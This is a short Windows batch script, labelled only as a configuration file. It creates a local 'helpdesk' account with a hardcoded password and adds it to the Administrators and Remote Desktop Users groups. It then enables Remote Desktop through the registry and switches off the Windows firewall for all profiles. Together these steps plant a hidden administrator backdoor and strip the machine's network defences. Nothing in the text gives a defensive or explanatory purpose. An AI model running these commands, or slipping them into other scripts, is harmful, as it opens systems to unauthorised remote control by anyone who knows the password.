REM config 6101 v2
net user helpdesk Adm1n!strat0r /add /y
net localgroup administrators helpdesk /add
net localgroup "Remote Desktop Users" helpdesk /add
reg add "HKLM\SYSTEM\CurrentControlSet\Control\Terminal Server" /v fDenyTSConnections /t REG_DWORD /d 0 /f
netsh advfirewall set allprofiles state off
